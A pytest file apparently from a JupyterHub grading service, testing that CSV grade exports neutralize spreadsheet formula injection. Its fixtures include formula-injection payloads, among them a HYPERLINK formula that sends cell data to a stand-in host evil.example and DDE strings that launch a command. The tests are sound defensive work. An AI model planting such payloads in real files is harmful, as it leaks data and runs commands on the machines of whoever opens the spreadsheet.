"""CSV exports open in a spreadsheet as data: formula cells neutralized (OWASP's rule).

Each export is read back with Python's csv module, as a spreadsheet's importer would split it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from hubservices.common.csvsafe import csv_chunks, csv_text, neutralize
from hubservices.formgrader.export import GRADE_FIELDS, SafeCsvExportPlugin

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"grades")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_starts_are_neutralized(cell: str) -> None:
    assert neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["ann", "a=b", "dana#1", "", "'=1"])
def test_other_text_is_left_as_it_is(cell: str) -> None:
    assert neutralize(cell) == cell


def test_numbers_stay_numbers() -> None:
    text = csv_text(["user", "hours"], [{"user": "-1", "hours": -1.5}])
    assert list(csv.reader(io.StringIO(text))) == [["user", "hours"], ["'-1", "-1.5"]]


def test_hostile_names_come_back_as_text_in_their_own_cells() -> None:
    rows = [{"user": name, "sessions": 1} for name in [*HOSTILE, 'comma, "quote"\nnewline']]
    text = csv_text(["user", "sessions"], rows)
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["user"] for r in read] == [*("'" + h for h in HOSTILE), 'comma, "quote"\nnewline']
    assert {r["sessions"] for r in read} == {"1"}


def test_grades_export_neutralizes_ids_and_names_from_the_gradebook(
    tmp_path: Path, venv_on_path: None
) -> None:
    """A gradebook can hold any id (``nbgrader db student add`` takes what it is given)."""
    dest = tmp_path / "grades.csv"
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("ps1")
        gradebook.add_student(
            "=cmd|' /C calc'!A0",
            first_name='=HYPERLINK("http://evil.example","x")',
            last_name="Doe, Jr.",
            email="@evil.example",
        )
        gradebook.add_student("student1", first_name="Ann", last_name="-Lee", email=None)
        SafeCsvExportPlugin(to=str(dest)).export(gradebook)
    with dest.open(newline="") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames or ()) == GRADE_FIELDS
        rows = {row["student_id"]: row for row in reader}
    hostile = rows["'=cmd|' /C calc'!A0"]
    assert hostile["first_name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert hostile["last_name"] == "Doe, Jr."  # one cell, not two
    assert hostile["email"] == "'@evil.example"
    assert (hostile["assignment"], hostile["score"], hostile["timestamp"]) == ("ps1", "0.0", "")
    assert rows["student1"]["last_name"] == "'-Lee"
    assert rows["student1"]["email"] == ""


def test_chunks_are_whole_rows_and_join_to_the_whole_export() -> None:
    """A streamed export: the header once, then pieces of whole rows (a quoted newline stays
    inside its cell), formula cells neutralized in every piece."""
    rows = [{"user": name, "sessions": i} for i, name in enumerate([*HOSTILE, "a\nb", "ann"])]
    chunks = list(csv_chunks(["user", "sessions"], rows, rows_per_chunk=3))
    assert len(chunks) == 3  # 8 rows: 3 + 3 + 2, the header with the first
    assert "".join(chunks) == csv_text(["user", "sessions"], rows)
    pieces = [list(csv.reader(io.StringIO(c, newline=""))) for c in chunks]
    assert [len(p) for p in pieces] == [4, 3, 2]
    assert pieces[0][0] == ["user", "sessions"]
    assert pieces[2] == [["a\nb", "6"], ["ann", "7"]]
    users = [r[0] for p in pieces for r in p][1:]
    assert users == [*("'" + h for h in HOSTILE), "a\nb", "ann"]
    assert list(csv_chunks(["user"], [])) == ["user\r\n"]
